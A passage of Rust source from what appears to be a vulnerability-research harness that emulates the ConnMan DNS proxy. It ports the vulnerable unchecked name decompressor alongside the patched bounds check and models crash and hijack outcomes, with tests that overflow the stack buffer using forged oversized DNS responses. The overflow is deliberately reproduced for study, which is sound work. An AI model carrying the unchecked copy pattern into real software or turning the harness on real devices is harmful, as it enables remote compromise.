    /// a pointer loop cannot hang the daemon forever).
    PointerLoop,
    /// The 1.35 bounds check fired (`-ENOBUFS`); never returned by
    /// vulnerable versions.
    BufferFull {
        /// Bytes the name would have needed.
        needed: usize,
    },
    /// The overflowing write itself faulted (ran off the stack
    /// mapping) — an immediate crash.
    MachineFault(Fault),
}

/// Result of a successful walk: how many bytes were written into the
/// buffer and where the reader ended up in the packet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Uncompressed {
    /// Bytes written to the `name` buffer (length bytes + labels).
    pub name_len: usize,
    /// Packet offset just past the name's in-place bytes.
    pub next_offset: usize,
}

/// Maximum pointer hops before either version gives up.
pub const MAX_HOPS: usize = 128;

/// Ports `get_name`: decompresses the name at `offset` in `packet` into
/// the buffer at `buf_addr` in machine memory.
///
/// For vulnerable versions the write is unchecked: names longer than
/// [`NAME_BUFFER_SIZE`] keep writing past the buffer — over locals,
/// saved registers and the return address.
///
/// # Errors
///
/// Returns an [`UncompressError`]; only patched versions produce
/// [`UncompressError::BufferFull`].
pub fn get_name(
    machine: &mut Machine,
    version: ConnmanVersion,
    packet: &[u8],
    offset: usize,
    buf_addr: Addr,
    pc: Addr,
) -> Result<Uncompressed, UncompressError> {
    get_name_into(
        machine,
        version,
        packet,
        offset,
        buf_addr,
        NAME_BUFFER_SIZE,
        pc,
    )
}

/// Like [`get_name`] but with an explicit buffer capacity — the §V
/// adaptation experiments model other services' (smaller or larger)
/// stack buffers with it. The *vulnerable* path still ignores the
/// capacity entirely; only the patched bounds check consults it.
///
/// # Errors
///
/// Returns an [`UncompressError`]; only patched versions produce
/// [`UncompressError::BufferFull`].
pub fn get_name_into(
    machine: &mut Machine,
    version: ConnmanVersion,
    packet: &[u8],
    offset: usize,
    buf_addr: Addr,
    buf_cap: usize,
    pc: Addr,
) -> Result<Uncompressed, UncompressError> {
    let mut pos = offset;
    let mut name_len = 0usize;
    let mut hops = 0usize;
    let mut resume: Option<usize> = None;
    loop {
        let len = match packet.get(pos) {
            Some(&b) => b as usize,
            None => {
                machine.cov_note(cov::NAME_MALFORMED);
                return Err(UncompressError::Malformed);
            }
        };
        if len == 0 {
            pos += 1;
            break;
        }
        if len & 0xC0 == 0xC0 {
            let lo = match packet.get(pos + 1) {
                Some(&b) => b as usize,
                None => {
                    machine.cov_note(cov::NAME_MALFORMED);
                    return Err(UncompressError::Malformed);
                }
            };
            let target = ((len & 0x3F) << 8) | lo;
            hops += 1;
            machine.cov_note(cov::HOP | cov::bucket(hops));
            if hops > MAX_HOPS {
                machine.cov_note(cov::NAME_LOOP | cov::bucket(name_len));
                return Err(UncompressError::PointerLoop);
            }
            if resume.is_none() {
                resume = Some(pos + 2);
            }
            pos = target;
            continue;
        }
        if len & 0xC0 != 0 {
            machine.cov_note(cov::NAME_MALFORMED);
            return Err(UncompressError::Malformed);
        }
        // The wire already stores `label_len` immediately followed by the
        // label bytes, which is exactly the layout the buffer wants, so
        // both C statements
        //
        //   name[(*name_len)++] = label_len;
        //   memcpy(name + *name_len, p + 1, label_len); *name_len += label_len;
        //
        // collapse into one copy straight from the packet. `write_bytes`
        // stops at the first inaccessible byte with everything before it
        // written, so overflow and fault behaviour stay byte-identical to
        // the split writes.
        let Some(chunk) = packet.get(pos..pos + 1 + len) else {
            machine.cov_note(cov::NAME_MALFORMED);
            return Err(UncompressError::Malformed);
        };
        if !version.is_vulnerable() {
            // The 1.35 fix: refuse labels that would overflow the buffer
            // (length byte + label + eventual terminator).
            if name_len + len + 2 > buf_cap {
                machine.cov_note(cov::NAME_FULL | cov::bucket(name_len + len + 2));
                return Err(UncompressError::BufferFull {
                    needed: name_len + len + 2,
                });
            }
        }
        if let Err(f) =
            machine
                .mem_mut()
                .write_bytes(buf_addr.wrapping_add(name_len as u32), chunk, pc)
        {
            machine.cov_note(cov::NAME_FAULT);
            return Err(UncompressError::MachineFault(f));
        }
        name_len += 1 + len;
        pos += 1 + len;
        // Bucketed growth of the name buffer — the gradient that walks
        // the fuzzer's corpus toward (and past) the 1024-byte boundary.
        machine.cov_note(cov::LABEL | cov::bucket(name_len));
    }
    // Trailing root byte.
    if let Err(f) = machine
        .mem_mut()
        .write_u8(buf_addr.wrapping_add(name_len as u32), 0, pc)
    {
        machine.cov_note(cov::NAME_FAULT);
        return Err(UncompressError::MachineFault(f));
    }
    name_len += 1;
    machine.cov_note(cov::NAME_OK | cov::bucket(name_len));
    Ok(Uncompressed {
        name_len,
        next_offset: resume.unwrap_or(pos),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_image::{Arch, Perms, SectionKind};

    fn machine() -> Machine {
        let mut m = Machine::new(Arch::X86);
        m.mem_mut()
            .map("stack", Some(SectionKind::Stack), 0x8000, 0x2000, Perms::RW);
        m
    }

    fn packet_with_labels(labels: &[&[u8]]) -> Vec<u8> {
        let mut p = Vec::new();
        for l in labels {
            p.push(l.len() as u8);
            p.extend_from_slice(l);
        }
        p.push(0);
        p
    }

    #[test]
    fn normal_name_lands_in_buffer() {
        let mut m = machine();
        let packet = packet_with_labels(&[b"www", b"example", b"com"]);
        let out = get_name(&mut m, ConnmanVersion::V1_34, &packet, 0, 0x8100, 0).unwrap();
        assert_eq!(out.name_len, packet.len());
        assert_eq!(out.next_offset, packet.len());
        assert_eq!(
            m.mem().read_bytes(0x8100, packet.len(), 0).unwrap(),
            packet,
            "wire-format labels copied verbatim"
        );
    }

    #[test]
    fn vulnerable_version_overflows_buffer() {
        let mut m = machine();
        let labels: Vec<Vec<u8>> = (0..20).map(|_| vec![0x41u8; 63]).collect();
        let refs: Vec<&[u8]> = labels.iter().map(|l| l.as_slice()).collect();
        let packet = packet_with_labels(&refs);
        let out = get_name(&mut m, ConnmanVersion::V1_34, &packet, 0, 0x8100, 0).unwrap();
        assert!(out.name_len > NAME_BUFFER_SIZE, "{}", out.name_len);
        // Bytes beyond the 1024-byte buffer were really written.
        assert_eq!(m.mem().read_u8(0x8100 + 1024 + 10, 0).unwrap(), 0x41);
    }

    #[test]
    fn patched_version_stops_at_boundary() {
        let mut m = machine();
        let labels: Vec<Vec<u8>> = (0..20).map(|_| vec![0x41u8; 63]).collect();
        let refs: Vec<&[u8]> = labels.iter().map(|l| l.as_slice()).collect();
        let packet = packet_with_labels(&refs);
        let err = get_name(&mut m, ConnmanVersion::V1_35, &packet, 0, 0x8100, 0).unwrap_err();
        assert!(matches!(err, UncompressError::BufferFull { .. }));
        // Nothing past the buffer was touched.
        assert_eq!(m.mem().read_u8(0x8100 + 1024 + 10, 0).unwrap(), 0);
    }

    #[test]
    fn patched_version_accepts_max_fitting_name() {
        let mut m = machine();
        // 15 labels of 63 bytes: 15 length bytes + 945... each label is
        // 64 buffer bytes (length + content), plus the root byte.
        let labels: Vec<Vec<u8>> = (0..15).map(|_| vec![0x42u8; 63]).collect();
        let refs: Vec<&[u8]> = labels.iter().map(|l| l.as_slice()).collect();
        let packet = packet_with_labels(&refs);
        let out = get_name(&mut m, ConnmanVersion::V1_35, &packet, 0, 0x8100, 0).unwrap();
        assert_eq!(out.name_len, 15 * 64 + 1);
    }

    #[test]
    fn pointer_followed_and_resume_reported() {
        // "x" at 0; at 3: "y" + pointer to 0.
        let packet = vec![1, b'x', 0, 1, b'y', 0xC0, 0x00];
        let mut m = machine();
        let out = get_name(&mut m, ConnmanVersion::V1_34, &packet, 3, 0x8100, 0).unwrap();
        assert_eq!(out.next_offset, 7);
        // Buffer holds "y" label then "x" label then root.
        assert_eq!(
            m.mem().read_bytes(0x8100, 5, 0).unwrap(),
            vec![1, b'y', 1, b'x', 0]
        );
    }

    #[test]
    fn pointer_loop_capped() {
        // Pointer to itself.
        let packet = vec![0xC0, 0x00];
        let mut m = machine();
        assert_eq!(
            get_name(&mut m, ConnmanVersion::V1_34, &packet, 0, 0x8100, 0),
            Err(UncompressError::PointerLoop)
        );
    }

    #[test]
    fn truncated_packet_malformed() {
        let packet = vec![5, b'a'];
        let mut m = machine();
        assert_eq!(
            get_name(&mut m, ConnmanVersion::V1_34, &packet, 0, 0x8100, 0),
            Err(UncompressError::Malformed)
        );
    }

    #[test]
    fn overflow_off_the_stack_faults() {
        let mut m = Machine::new(Arch::X86);
        // Tiny stack: 0x100 bytes.
        m.mem_mut()
            .map("stack", Some(SectionKind::Stack), 0x8000, 0x100, Perms::RW);
        let labels: Vec<Vec<u8>> = (0..20).map(|_| vec![0x41u8; 63]).collect();
        let refs: Vec<&[u8]> = labels.iter().map(|l| l.as_slice()).collect();
        let packet = packet_with_labels(&refs);
        let err = get_name(&mut m, ConnmanVersion::V1_34, &packet, 0, 0x8000, 0).unwrap_err();
        assert!(matches!(
            err,
            UncompressError::MachineFault(Fault::UnmappedWrite { .. })
        ));
    }

    #[test]
    fn reserved_label_bits_malformed() {
        let packet = vec![0x40, 0x00];
        let mut m = machine();
        assert_eq!(
            get_name(&mut m, ConnmanVersion::V1_34, &packet, 0, 0x8100, 0),
            Err(UncompressError::Malformed)
        );
    }
}
