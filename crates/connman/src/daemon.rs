//! The DNS-proxy daemon state machine.
//!
//! Lifecycle per lookup: a client asks the proxy for a name → the proxy
//! issues an upstream query ([`Daemon::resolve`]) → somebody (the benign
//! resolver or the attacker's server) answers →
//! [`Daemon::deliver_response`] runs the ported `parse_response` against
//! the bytes. That call is where every outcome of the paper happens:
//! rejection, normal caching, crash (DoS), or control-flow hijack (RCE).

use std::collections::{HashMap, VecDeque};
use std::error::Error;
use std::fmt;
use std::net::IpAddr;

use cml_dns::validate::{gate_response, ResponseRejection};
use cml_dns::{Message, Name, Question, RecordType, WireReader};
use cml_image::Addr;
use cml_vm::debug::FaultReport;
use cml_vm::{Fault, LoadMap, Loader, Machine, MachineSnapshot, RunOutcome, ShellSpawn};

use crate::cov;
use crate::frame::{Frame, FrameLayout};
use crate::uncompress::{get_name_into, UncompressError};
use crate::{Cache, ConnmanVersion, ProxyOutcome, SYM_DAEMON_LOOP, SYM_PARSE_RESPONSE};

/// Stack distance between the boot-time stack pointer and the daemon
/// loop's frame when it calls `parse_response`.
const CALL_DEPTH: u32 = 0x40;

/// Instruction budget for hijacked execution before the watchdog deems
/// the daemon hung.
const HIJACK_STEP_BUDGET: u64 = 500_000;

/// Maximum in-flight upstream queries (the real daemon keeps a bounded
/// request list).
const MAX_PENDING: usize = 32;

/// Errors constructing a daemon.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DaemonError {
    /// The loaded image lacks a required symbol.
    MissingSymbol(&'static str),
}

impl fmt::Display for DaemonError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DaemonError::MissingSymbol(s) => write!(f, "image lacks required symbol {s}"),
        }
    }
}

impl Error for DaemonError {}

/// Whether the daemon is alive, and if not, why.
#[derive(Debug, Clone, PartialEq)]
pub enum DaemonState {
    /// Serving queries.
    Running,
    /// Dead from a fault (the DoS outcome).
    Crashed(Fault),
    /// An attacker-controlled shell replaced it (the RCE outcome).
    Compromised(ShellSpawn),
    /// Hijacked execution exited cleanly.
    Exited(i32),
}

/// An upstream query awaiting its response.
#[derive(Debug, Clone)]
pub struct PendingQuery {
    message: Message,
    issued_at: u64,
}

impl PendingQuery {
    /// The outstanding query message.
    pub fn message(&self) -> &Message {
        &self.message
    }

    /// Transaction id the response must echo.
    pub fn id(&self) -> u16 {
        self.message.id()
    }

    /// Monotone issue counter (for oldest-first eviction).
    pub fn issued_at(&self) -> u64 {
        self.issued_at
    }
}

/// What [`Daemon::resolve`] produced.
#[derive(Debug, Clone, PartialEq)]
pub enum Resolution {
    /// Served from cache, no network traffic.
    Cached(Vec<IpAddr>),
    /// An upstream query was issued; deliver its wire bytes to the
    /// configured DNS server.
    Query(Vec<u8>),
}

/// Everything needed to rewind a booted [`Daemon`] to an earlier point:
/// the machine snapshot (copy-on-write pages) plus the daemon's own
/// protocol state. Produced by [`Daemon::snapshot`], consumed by
/// [`Daemon::restore`] — the "boot once, fork per trial" primitive the
/// experiment harness builds on.
#[derive(Debug, Clone)]
pub struct DaemonSnapshot {
    version: ConnmanVersion,
    machine: MachineSnapshot,
    map: LoadMap,
    cache: Cache,
    layout: FrameLayout,
    parse_pc: Addr,
    resume_pc: Addr,
    boot_sp: Addr,
    next_id: u16,
    pending: HashMap<u16, PendingQuery>,
    pending_order: VecDeque<(u16, u64)>,
    issued: u64,
    clock: u64,
    state: DaemonState,
    sanitize: bool,
}

/// The simulated Connman DNS proxy daemon.
#[derive(Debug, Clone)]
pub struct Daemon {
    version: ConnmanVersion,
    machine: Machine,
    map: LoadMap,
    cache: Cache,
    layout: FrameLayout,
    parse_pc: Addr,
    resume_pc: Addr,
    boot_sp: Addr,
    next_id: u16,
    pending: HashMap<u16, PendingQuery>,
    /// Issue order of pending queries, for O(1) amortized oldest-first
    /// eviction. Entries whose query was since answered go stale here
    /// and are skipped (lazy deletion); the `issued_at` tag disambiguates
    /// a reused transaction id from the stale record of its predecessor.
    pending_order: VecDeque<(u16, u64)>,
    issued: u64,
    clock: u64,
    state: DaemonState,
    /// When set, a shadow-memory redzone guards the name buffer during
    /// each parse (see [`Daemon::with_sanitizer`]).
    sanitize: bool,
}

impl Daemon {
    /// Wraps a loaded machine as a running daemon.
    ///
    /// # Errors
    ///
    /// Returns [`DaemonError::MissingSymbol`] if the image did not define
    /// `parse_response` and `daemon_loop`.
    pub fn new(
        machine: Machine,
        map: LoadMap,
        version: ConnmanVersion,
    ) -> Result<Self, DaemonError> {
        let parse_pc = map
            .symbol(SYM_PARSE_RESPONSE)
            .ok_or(DaemonError::MissingSymbol(SYM_PARSE_RESPONSE))?;
        let resume_pc = map
            .symbol(SYM_DAEMON_LOOP)
            .ok_or(DaemonError::MissingSymbol(SYM_DAEMON_LOOP))?;
        let boot_sp = machine.regs().sp();
        let layout = FrameLayout::connman(machine.arch());
        Ok(Daemon {
            version,
            machine,
            map,
            cache: Cache::default(),
            layout,
            parse_pc,
            resume_pc,
            boot_sp,
            next_id: 0x1000,
            pending: HashMap::new(),
            pending_order: VecDeque::new(),
            issued: 0,
            clock: 0,
            state: DaemonState::Running,
            sanitize: false,
        })
    }

    /// Overrides the vulnerable function's frame geometry — used to
    /// model *other* overflow-prone services (paper §V) with the same
    /// daemon machinery.
    pub fn with_frame_layout(mut self, layout: FrameLayout) -> Self {
        self.layout = layout;
        self
    }

    /// The active frame geometry.
    pub fn frame_layout(&self) -> FrameLayout {
        self.layout
    }

    /// Enables the shadow-memory sanitizer: during each parse a redzone
    /// is armed past the name buffer, out-of-bounds writes are diverted
    /// instead of corrupting the frame, and an overflow surfaces as a
    /// precise [`Fault::RedzoneViolation`] crash (faulting pc, buffer,
    /// extent) rather than a hijack or silent corruption.
    pub fn with_sanitizer(mut self, on: bool) -> Self {
        self.sanitize = on;
        self
    }

    /// In-place variant of [`Daemon::with_sanitizer`] — for daemons that
    /// are already booted (e.g. a snapshot fork).
    pub fn set_sanitizer(&mut self, on: bool) {
        self.sanitize = on;
    }

    /// Whether the shadow-memory sanitizer is enabled.
    pub fn sanitizer_enabled(&self) -> bool {
        self.sanitize
    }

    /// The Connman release being simulated.
    pub fn version(&self) -> ConnmanVersion {
        self.version
    }

    /// Current lifecycle state.
    pub fn state(&self) -> &DaemonState {
        &self.state
    }

    /// Whether the daemon still serves queries.
    pub fn is_running(&self) -> bool {
        matches!(self.state, DaemonState::Running)
    }

    /// The record cache.
    pub fn cache(&self) -> &Cache {
        &self.cache
    }

    /// The underlying machine (for inspection).
    pub fn machine(&self) -> &Machine {
        &self.machine
    }

    /// The underlying machine, mutably — for harness-level toggles
    /// (dispatch mode, decode cache) and instrumentation. Daemon
    /// bookkeeping (pcs, pending queries) is not touched, so callers
    /// must not move regions or rewrite register state.
    pub fn machine_mut(&mut self) -> &mut Machine {
        &mut self.machine
    }

    /// Enables execution tracing on the underlying machine: hijacked
    /// control flow is recorded step by step (see [`cml_vm::Trace`]).
    pub fn enable_trace(&mut self, capacity: usize) {
        self.machine.enable_trace(capacity);
    }

    /// The load map (runtime symbol addresses).
    pub fn map(&self) -> &LoadMap {
        &self.map
    }

    /// Number of queries awaiting answers.
    pub fn pending_count(&self) -> usize {
        self.pending.len()
    }

    /// The outstanding query with the given transaction id.
    pub fn pending_for(&self, id: u16) -> Option<&PendingQuery> {
        self.pending.get(&id)
    }

    /// Advances the daemon's clock (TTL bookkeeping).
    pub fn tick(&mut self, n: u64) {
        self.clock += n;
        self.cache.evict_expired(self.clock);
    }

    /// Current clock value.
    pub fn clock(&self) -> u64 {
        self.clock
    }

    /// Handles a client lookup: serve from cache or issue an upstream
    /// query whose wire bytes the caller must forward to the DNS server.
    pub fn resolve(&mut self, name: &Name, rtype: RecordType) -> Resolution {
        if let Some(entry) = self.cache.lookup(name, rtype, self.clock) {
            return Resolution::Cached(entry.addresses.clone());
        }
        let id = self.next_id;
        self.next_id = self.next_id.wrapping_add(1).max(1);
        let query = Message::query(id, Question::new(name.clone(), rtype));
        let bytes = query.encode().expect("queries are small and well-formed");
        if self.pending.len() >= MAX_PENDING {
            // Evict the oldest request, as the real bounded list does.
            // Pop issue-order records until one still names a live query
            // (answered queries leave stale records behind).
            while let Some((old_id, issued_at)) = self.pending_order.pop_front() {
                if self
                    .pending
                    .get(&old_id)
                    .is_some_and(|p| p.issued_at == issued_at)
                {
                    self.pending.remove(&old_id);
                    break;
                }
            }
        }
        self.issued += 1;
        self.pending.insert(
            id,
            PendingQuery {
                message: query,
                issued_at: self.issued,
            },
        );
        self.pending_order.push_back((id, self.issued));
        Resolution::Query(bytes)
    }

    /// Feeds an upstream response into the vulnerable parser.
    ///
    /// This is the experiment's trigger point: everything the paper does
    /// to the daemon flows through here.
    pub fn deliver_response(&mut self, bytes: &[u8]) -> ProxyOutcome {
        if !self.is_running() {
            return ProxyOutcome::DaemonDown;
        }
        let found_id = u16::from_be_bytes([
            bytes.first().copied().unwrap_or(0),
            bytes.get(1).copied().unwrap_or(0),
        ]);
        let Some(pending) = self.pending.get(&found_id).cloned() else {
            return ProxyOutcome::Rejected(ResponseRejection::IdMismatch {
                expected: 0,
                found: found_id,
            });
        };
        // 1. Header gate — "otherwise Connman dumps the packet".
        let gate = match gate_response(pending.message(), bytes) {
            Ok(g) => g,
            Err(rej) => return ProxyOutcome::Rejected(rej),
        };
        self.machine
            .cov_note(cov::GATE_PASS | cov::bucket(gate.header.ancount as usize));

        // 2. Enter the parse_response frame on the simulated stack.
        let caller_sp = self.boot_sp - CALL_DEPTH;
        let canary = self.machine.canary();
        let frame = match Frame::enter_with(
            &mut self.machine,
            self.layout,
            caller_sp,
            self.resume_pc,
            canary,
            self.parse_pc,
        ) {
            Ok(f) => f,
            Err(fault) => return self.crash(fault),
        };

        // 2b. Sanitizer: arm a redzone from the buffer's end to the top
        //     of the stack region. Frame setup above already committed,
        //     so every absorbed write is a genuine overflow.
        if self.sanitize {
            let buf = frame.buf_addr();
            let cap = self.layout.buf_size as u32;
            let zone_start = buf.wrapping_add(cap);
            let zone_end = self
                .machine
                .mem()
                .region_containing(zone_start)
                .map_or(zone_start as u64, |r| r.end());
            self.machine.mem_mut().arm_redzone(buf, cap, zone_end);
        }

        // 3. Walk the answer records through the (possibly unchecked)
        //    decompressor.
        let mut offset = gate.answers_offset;
        let mut parse_failure: Option<String> = None;
        let mut to_cache: Vec<(RecordType, Vec<IpAddr>, u32)> = Vec::new();
        for rr_idx in 0..gate.header.ancount {
            match get_name_into(
                &mut self.machine,
                self.version,
                bytes,
                offset,
                frame.buf_addr(),
                self.layout.buf_size,
                self.parse_pc,
            ) {
                Ok(out) => offset = out.next_offset,
                Err(UncompressError::MachineFault(fault)) => {
                    // Prefer the precise sanitizer diagnostic over the
                    // raw machine fault, if the redzone saw the overflow.
                    if let Some(f) = self.sanitizer_verdict() {
                        return self.crash(f);
                    }
                    return self.crash(fault);
                }
                Err(e) => {
                    parse_failure = Some(uncompress_reason(&e));
                    break;
                }
            }
            // Fixed RR fields: type, class, ttl, rdlength, rdata.
            match parse_rr_fixed(bytes, offset) {
                Ok(rr) => {
                    offset = rr.next_offset;
                    self.machine
                        .cov_note(cov::RR_PARSED | cov::bucket(rr_idx as usize));
                    if let Some(addr) = rr.address() {
                        to_cache.push((rr.rtype, vec![addr], rr.ttl));
                    }
                }
                Err(reason) => {
                    parse_failure = Some(reason.to_string());
                    break;
                }
            }
        }

        // 3b. Sanitizer: disarm. An absorbed overflow becomes a precise
        //     crash diagnostic; the frame beneath is untouched, so the
        //     exploit never progresses past this point.
        if let Some(fault) = self.sanitizer_verdict() {
            return self.crash(fault);
        }

        // 4. parse_rr's pointer checks (the ARM NULL-slot quirk).
        if let Err(fault) = frame.run_parse_rr_checks(&self.machine, self.parse_pc) {
            return self.crash_with_context(fault);
        }

        // 5. Canary verification (when compiled in).
        if let Err(fault) = frame.check_canary(&self.machine, self.parse_pc) {
            return self.crash(fault);
        }

        // 6. Epilogue: restore saved state and "return".
        if let Err(fault) = frame.leave(&mut self.machine, self.parse_pc) {
            return self.crash(fault);
        }

        if self.machine.regs().pc() == self.resume_pc {
            // The saved return address survived: normal control flow.
            if let Some(reason) = parse_failure {
                return ProxyOutcome::ParseFailed { reason };
            }
            let qname = pending.message().questions()[0].qname().clone();
            let mut cached = 0;
            for (rtype, addrs, ttl) in to_cache {
                if self.cache.insert(&qname, rtype, addrs, ttl, self.clock) {
                    cached += 1;
                }
            }
            self.pending.remove(&found_id);
            return ProxyOutcome::Answered { cached };
        }

        // 7. Hijacked: the machine now runs attacker-chosen control flow.
        match self.machine.run(HIJACK_STEP_BUDGET) {
            RunOutcome::ShellSpawned(spawn) => {
                self.state = DaemonState::Compromised(spawn.clone());
                ProxyOutcome::Compromised(spawn)
            }
            RunOutcome::Exited(code) => {
                self.state = DaemonState::Exited(code);
                ProxyOutcome::HijackedExit { code }
            }
            RunOutcome::Fault(fault) => self.crash_with_context(fault),
        }
    }

    /// Captures the daemon's complete state for later [`Daemon::restore`].
    ///
    /// Cheap to restore from: memory pages are shared copy-on-write with
    /// the live machine, so rewinding costs O(pages dirtied since the
    /// snapshot), not O(address space).
    pub fn snapshot(&mut self) -> DaemonSnapshot {
        DaemonSnapshot {
            version: self.version,
            machine: self.machine.snapshot(),
            map: self.map.clone(),
            cache: self.cache.clone(),
            layout: self.layout,
            parse_pc: self.parse_pc,
            resume_pc: self.resume_pc,
            boot_sp: self.boot_sp,
            next_id: self.next_id,
            pending: self.pending.clone(),
            pending_order: self.pending_order.clone(),
            issued: self.issued,
            clock: self.clock,
            state: self.state.clone(),
            sanitize: self.sanitize,
        }
    }

    /// Rewinds the daemon to `snap` (taken from this daemon or a clone of
    /// it booted from the same image).
    pub fn restore(&mut self, snap: &DaemonSnapshot) {
        self.version = snap.version;
        self.machine.restore(&snap.machine);
        // `clone_from` so the fork-per-device loop reuses the live
        // daemon's table capacity instead of reallocating every rewind.
        self.map.clone_from(&snap.map);
        self.cache.clone_from(&snap.cache);
        self.layout = snap.layout;
        self.parse_pc = snap.parse_pc;
        self.resume_pc = snap.resume_pc;
        self.boot_sp = snap.boot_sp;
        self.next_id = snap.next_id;
        self.pending.clone_from(&snap.pending);
        self.pending_order.clone_from(&snap.pending_order);
        self.issued = snap.issued;
        self.clock = snap.clock;
        self.state.clone_from(&snap.state);
        self.sanitize = snap.sanitize;
    }

    /// Re-randomizes the booted machine with `loader`'s seed (see
    /// [`Loader::reslide`]) and rebases every symbol-derived address the
    /// daemon caches. Used by the fork-per-trial boot path to give each
    /// fork its own ASLR layout without re-booting.
    ///
    /// # Errors
    ///
    /// Returns [`DaemonError::MissingSymbol`] if the reslid map lost a
    /// required symbol (it cannot, for images accepted by
    /// [`Daemon::new`]).
    pub fn reslide(&mut self, loader: Loader<'_>) -> Result<(), DaemonError> {
        // An idle daemon parks its pc at the loop; keep it parked at the
        // loop's *new* address so a forked boot matches a fresh one.
        let at_loop = self.machine.regs().pc() == self.resume_pc;
        // In-place reslide: the daemon's existing symbol table is
        // rewritten value-by-value, so a fork allocates no new keys.
        loader.reslide_into(&mut self.machine, &mut self.map);
        self.parse_pc = self
            .map
            .symbol(SYM_PARSE_RESPONSE)
            .ok_or(DaemonError::MissingSymbol(SYM_PARSE_RESPONSE))?;
        self.resume_pc = self
            .map
            .symbol(SYM_DAEMON_LOOP)
            .ok_or(DaemonError::MissingSymbol(SYM_DAEMON_LOOP))?;
        self.boot_sp = self.machine.regs().sp();
        if at_loop {
            self.machine.regs_mut().set_pc(self.resume_pc);
        }
        Ok(())
    }

    /// Disarms the parse-time redzone (no-op when the sanitizer is off
    /// or nothing overflowed) and converts an absorbed overflow into
    /// the sanitizer fault.
    fn sanitizer_verdict(&mut self) -> Option<Fault> {
        let hit = self.machine.mem_mut().disarm_redzone()?;
        Some(Fault::RedzoneViolation {
            buffer: hit.buffer,
            capacity: hit.capacity,
            first: hit.first,
            extent: hit.extent(),
            pc: hit.pc,
        })
    }

    fn crash(&mut self, fault: Fault) -> ProxyOutcome {
        self.state = DaemonState::Crashed(fault.clone());
        ProxyOutcome::Crashed(Box::new(FaultReport::capture(&self.machine, fault)))
    }

    fn crash_with_context(&mut self, fault: Fault) -> ProxyOutcome {
        self.crash(fault)
    }
}

fn uncompress_reason(e: &UncompressError) -> String {
    match e {
        UncompressError::Malformed => "malformed name in answer".to_string(),
        UncompressError::PointerLoop => "compression pointer loop".to_string(),
        UncompressError::BufferFull { needed } => {
            format!("name of {needed} bytes exceeds buffer (patched bounds check)")
        }
        UncompressError::MachineFault(f) => f.to_string(),
    }
}

/// Fixed RR fields, borrowing `rdata` straight from the packet — one
/// record is parsed per decompressed name, so a per-record `Vec` here
/// would be the only allocation left in the DNS decode loop.
struct RrFixed<'a> {
    rtype: RecordType,
    ttl: u32,
    rdata: &'a [u8],
    next_offset: usize,
}

impl RrFixed<'_> {
    fn address(&self) -> Option<IpAddr> {
        match (self.rtype, self.rdata.len()) {
            (RecordType::A, 4) => {
                let mut o = [0u8; 4];
                o.copy_from_slice(self.rdata);
                Some(IpAddr::from(o))
            }
            (RecordType::Aaaa, 16) => {
                let mut o = [0u8; 16];
                o.copy_from_slice(self.rdata);
                Some(IpAddr::from(o))
            }
            _ => None,
        }
    }
}

fn parse_rr_fixed(bytes: &[u8], offset: usize) -> Result<RrFixed<'_>, &'static str> {
    let mut r = WireReader::new(bytes);
    r.seek(offset).map_err(|_| "record header truncated")?;
    let rtype = RecordType::from_u16(r.read_u16("type").map_err(|_| "record header truncated")?);
    let _class = r.read_u16("class").map_err(|_| "record header truncated")?;
    let ttl = r.read_u32("ttl").map_err(|_| "record header truncated")?;
    let rdlen = r
        .read_u16("rdlength")
        .map_err(|_| "record header truncated")? as usize;
    let rdata = r
        .read_bytes(rdlen, "rdata")
        .map_err(|_| "rdata truncated")?;
    Ok(RrFixed {
        rtype,
        ttl,
        rdata,
        next_offset: r.position(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use cml_dns::forge::ResponseForge;
    use cml_image::{layout, Arch, ImageBuilder, SectionKind, SymbolKind};
    use cml_vm::{Loader, Protections};

    /// A minimal bootable image: enough code and symbols for the daemon.
    fn test_image(arch: Arch) -> cml_image::Image {
        let l = layout::layout_for(arch);
        let mut b = ImageBuilder::new(arch);
        b.section_default(SectionKind::Text, l.text_base, 0x4000);
        b.section_default(SectionKind::Libc, l.libc_base, 0x4000);
        b.section_default(SectionKind::Stack, l.stack_top - l.stack_size, l.stack_size);
        // daemon_loop: benign code then parse_response marker.
        let loop_addr = match arch {
            Arch::X86 => b.append_code(SectionKind::Text, &[0x90, 0x90, 0x90, 0xC3]),
            Arch::Armv7 => b.append_code(
                SectionKind::Text,
                &cml_vm::arm::Asm::new().mov_reg(1, 1).bx(14).finish(),
            ),
            Arch::Riscv => b.append_code(
                SectionKind::Text,
                &cml_vm::riscv::Asm::new().c_nop().jalr(0, 1, 0).finish(),
            ),
        };
        b.symbol(SYM_DAEMON_LOOP, loop_addr, 4, SymbolKind::Function);
        let parse_addr = b.cursor(SectionKind::Text);
        match arch {
            Arch::X86 => b.append_code(SectionKind::Text, &[0xC3]),
            Arch::Armv7 => {
                b.append_code(SectionKind::Text, &cml_vm::arm::Asm::new().bx(14).finish())
            }
            Arch::Riscv => b.append_code(
                SectionKind::Text,
                &cml_vm::riscv::Asm::new().c_ret().finish(),
            ),
        };
        b.symbol(SYM_PARSE_RESPONSE, parse_addr, 4, SymbolKind::Function);
        b.build().unwrap()
    }

    pub(crate) fn daemon(arch: Arch, version: ConnmanVersion, protections: Protections) -> Daemon {
        let img = test_image(arch);
        let (machine, map) = Loader::new(&img).protections(protections).seed(42).load();
        Daemon::new(machine, map, version).unwrap()
    }

    pub(crate) fn issue_query(d: &mut Daemon) -> Message {
        let name = Name::parse("iot.example.com").unwrap();
        match d.resolve(&name, RecordType::A) {
            Resolution::Query(bytes) => Message::decode(&bytes).unwrap(),
            Resolution::Cached(_) => panic!("cache should be cold"),
        }
    }

    #[test]
    fn benign_response_is_cached() {
        let mut d = daemon(Arch::X86, ConnmanVersion::V1_34, Protections::none());
        let q = issue_query(&mut d);
        let resp = ResponseForge::answering(&q)
            .with_payload_labels(vec![b"iot".to_vec(), b"example".to_vec(), b"com".to_vec()])
            .unwrap()
            .build()
            .unwrap();
        let out = d.deliver_response(&resp);
        assert_eq!(out, ProxyOutcome::Answered { cached: 1 });
        assert!(d.is_running());
        // Second lookup hits the cache.
        let name = Name::parse("iot.example.com").unwrap();
        assert!(matches!(
            d.resolve(&name, RecordType::A),
            Resolution::Cached(_)
        ));
    }

    #[test]
    fn oversized_response_crashes_vulnerable_daemon() {
        for arch in Arch::ALL {
            let mut d = daemon(arch, ConnmanVersion::V1_34, Protections::none());
